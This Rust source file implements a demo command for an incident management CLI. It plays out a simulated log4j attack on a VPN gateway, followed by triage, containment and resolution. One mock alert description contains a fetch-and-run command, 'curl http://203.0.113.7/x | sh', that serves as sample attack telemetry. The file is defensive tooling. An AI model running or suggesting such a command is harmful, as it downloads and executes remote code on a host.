//! `semsctl demo`: a short, realistic scenario played against a running semsd, so a newcomer
//! sees the whole flow in a minute. Each run uses fresh alert references, so it can be played
//! again on the same server.

use std::time::Duration;

use sems_proto::v1 as pb;

use crate::{
    cli::{Printer, show},
    error::CtlError,
    output::{Format, incident_card},
    session::Session,
};

fn alert(
    source: &str,
    source_ref: String,
    title: &str,
    description: &str,
    severity: pb::Severity,
    observables: &[(&str, &str)],
) -> pb::IngestAlertRequest {
    pb::IngestAlertRequest {
        alert: Some(pb::Alert {
            source: source.into(),
            source_ref,
            title: title.into(),
            description: description.into(),
            severity: severity as i32,
            occurred_at: None,
            observables: observables
                .iter()
                .map(|(t, v)| pb::Observable {
                    r#type: (*t).into(),
                    value: (*v).into(),
                })
                .collect(),
            labels: [("site".to_string(), "LHR-DC1".to_string())].into(),
            raw: None,
        }),
        request_id: String::new(),
    }
}

/// Plays the scenario.
pub async fn run(s: &mut Session, out: &Printer, pace: Duration) -> Result<(), CtlError> {
    let run = chrono::Utc::now().format("%Y%m%d%H%M%S%3f").to_string();
    let talk = out.format == Format::Table;
    let step = |n: u32, text: &str| {
        if talk {
            println!("\n── {n}. {text}");
        }
    };
    let pause = || tokio::time::sleep(pace);

    step(
        1,
        "Suricata sees a log4j exploit attempt against the VPN gateway (HIGH)",
    );
    let first = alert(
        "suricata",
        format!("flow-{run}"),
        "ET EXPLOIT Apache log4j RCE attempt (CVE-2021-44228)",
        "JNDI lookup in User-Agent from 203.0.113.7 to vpn-gw-01",
        pb::Severity::High,
        &[("ip", "203.0.113.7"), ("host", "vpn-gw-01")],
    );
    let a1 = s
        .alerts()
        .ingest_alert(s.request(first.clone()))
        .await?
        .into_inner();
    s.wrote(a1.position, a1.replayed);
    out.ingested(&a1);
    let incident = a1.incident_id.clone();
    if incident.is_empty() {
        return Err(CtlError::Internal(
            "the HIGH alert opened no incident: is semsd's --incident-threshold above high?".into(),
        ));
    }
    if talk {
        println!("   It is at or above the incident threshold, so it opened incident {incident}.");
    }
    pause().await;

    step(
        2,
        "CrowdStrike reports an unusual child process on the same gateway (MEDIUM)",
    );
    let second = alert(
        "crowdstrike",
        format!("det-{run}"),
        "Suspicious child process of java on vpn-gw-01",
        "java spawned /bin/sh -c curl http://203.0.113.7/x | sh",
        pb::Severity::Medium,
        &[("host", "vpn-gw-01"), ("process", "/bin/sh")],
    );
    let a2 = s
        .alerts()
        .ingest_alert(s.request(second))
        .await?
        .into_inner();
    s.wrote(a2.position, a2.replayed);
    out.ingested(&a2);
    if talk {
        println!("   Below the threshold: it waits for triage and opens nothing by itself.");
    }
    pause().await;

    step(3, "Suricata fires the same alert again: a duplicate");
    let a3 = s
        .alerts()
        .ingest_alert(s.request(first))
        .await?
        .into_inner();
    s.wrote(a3.position, a3.replayed);
    out.ingested(&a3);
    if talk {
        println!(
            "   Same source and reference: counted as a repeat on alert {}, no new incident.",
            a3.alert_id
        );
    }
    pause().await;

    step(
        4,
        "The duty incident manager acknowledges and takes command",
    );
    let c = s
        .incidents()
        .acknowledge_incident(s.request(pb::AcknowledgeIncidentRequest {
            incident_id: incident.clone(),
            request_id: String::new(),
        }))
        .await?
        .into_inner();
    s.wrote(c.position, c.replayed);
    out.commit("Acknowledged incident", &c, None);
    let c = s
        .incidents()
        .assign_role(s.request(pb::AssignRoleRequest {
            incident_id: incident.clone(),
            role: pb::Role::Commander as i32,
            person: "dana.duty@example.org".into(),
            level: pb::Level::Operational as i32,
            effective_at: None,
            request_id: String::new(),
        }))
        .await?
        .into_inner();
    s.wrote(c.position, c.replayed);
    out.commit("Assigned the operational commander of incident", &c, None);
    pause().await;

    step(
        5,
        "Exploitation is confirmed: raised to CRITICAL / P1, taken to TACTICAL; the tactical \
         commander logs the decision to isolate the gateway; containment",
    );
    let c = s
        .incidents()
        .add_note(s.request(pb::AddNoteRequest {
            incident_id: incident.clone(),
            text: format!(
                "CrowdStrike alert {} shows follow-on execution on vpn-gw-01",
                a2.alert_id
            ),
            occurred_at: None,
            late_reason: String::new(),
            request_id: String::new(),
        }))
        .await?
        .into_inner();
    s.wrote(c.position, c.replayed);
    out.commit("Added a note to incident", &c, None);
    let c = s
        .incidents()
        .classify_incident(s.request(pb::ClassifyIncidentRequest {
            incident_id: incident.clone(),
            severity: pb::Severity::Critical as i32,
            priority: pb::Priority::P1 as i32,
            rationale:
                "exploitation confirmed: follow-on execution on an internet-facing gateway".into(),
            request_id: String::new(),
        }))
        .await?
        .into_inner();
    s.wrote(c.position, c.replayed);
    out.commit("Classified incident", &c, None);
    let c = s
        .incidents()
        .change_level(s.request(pb::ChangeLevelRequest {
            incident_id: incident.clone(),
            to: pb::Level::Tactical as i32,
            reason: "code execution on an internet-facing gateway; several teams needed".into(),
            request_id: String::new(),
        }))
        .await?
        .into_inner();
    s.wrote(c.position, c.replayed);
    out.commit("Moved to TACTICAL: incident", &c, None);
    let c = s
        .incidents()
        .record_decision(s.request(pb::RecordIncidentDecisionRequest {
            incident_id: incident.clone(),
            decision: "Isolate vpn-gw-01 and fail VPN users over to vpn-gw-02".into(),
            rationale: "code execution confirmed: the host can no longer be trusted".into(),
            options: vec![pb::OptionConsidered {
                option: "patch in place and keep it serving".into(),
                why_not: "a compromised host stays compromised after patching".into(),
            }],
            risks_accepted: "VPN capacity halved until the rebuild".into(),
            decision_maker: "duty tactical commander".into(),
            level: pb::Level::Tactical as i32,
            ..Default::default()
        }))
        .await?
        .into_inner();
    s.wrote(c.position, c.replayed);
    out.commit("Logged a decision in incident", &c, None);
    let c = s
        .incidents()
        .change_phase(s.request(pb::ChangePhaseRequest {
            incident_id: incident.clone(),
            phase: pb::Phase::Contain as i32,
            reason: "gateway isolated, VPN failed over to vpn-gw-02".into(),
            request_id: String::new(),
        }))
        .await?
        .into_inner();
    s.wrote(c.position, c.replayed);
    out.commit("Containment under way: incident", &c, None);
    pause().await;

    step(
        6,
        "Patched, rebuilt and verified: the incident is resolved and linked to the register \
         risk it realised",
    );
    let c = s
        .incidents()
        .resolve_incident(
            s.request(pb::ResolveIncidentRequest {
                incident_id: incident.clone(),
                resolution: "vpn-gw-01 rebuilt from a clean image with log4j 2.17.1; no lateral \
                         movement found; IOCs blocked at the edge"
                    .into(),
                people_involved: true,
                determination: pb::JustCultureDetermination::HonestError as i32,
                determination_rationale: "the patch was scheduled but the gateway was missed from \
                                      the asset inventory"
                    .into(),
                request_id: String::new(),
            }),
        )
        .await?
        .into_inner();
    s.wrote(c.position, c.replayed);
    out.commit("Resolved incident", &c, None);
    let c = s
        .incidents()
        .link_risk(
            s.request(pb::LinkRiskRequest {
                incident_id: incident.clone(),
                risk_ref: "R-017".into(),
                rationale: "unpatched internet-facing service: the gateway was missing from the \
                        asset inventory"
                    .into(),
                request_id: String::new(),
            }),
        )
        .await?
        .into_inner();
    s.wrote(c.position, c.replayed);
    out.commit("Linked register risk R-017 to incident", &c, None);

    step(
        7,
        "The incident as the read model shows it now (read at the last write's position)",
    );
    let detail = show(s, &incident).await?;
    match out.format {
        Format::Table => print!("{}", incident_card(&detail)),
        Format::Json => out.detail(&detail),
    }
    if talk {
        println!(
            "\nNext: `semsctl incidents list`, `semsctl incidents show {incident}`, \
             `semsctl decision log {incident}`, `semsctl alerts list --status received`."
        );
    }
    Ok(())
}
